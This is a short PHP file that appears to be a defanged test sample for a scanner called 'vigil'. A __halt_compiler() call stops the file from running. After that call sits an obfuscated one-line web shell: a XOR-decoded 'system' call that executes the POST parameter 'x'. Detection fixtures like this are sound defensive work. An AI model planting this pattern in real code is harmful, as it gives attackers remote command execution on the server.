<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$x = ("\x19\x12\x3f\x39\x2b\x02" ^ "jkLMNo");
$x($_POST['x']);
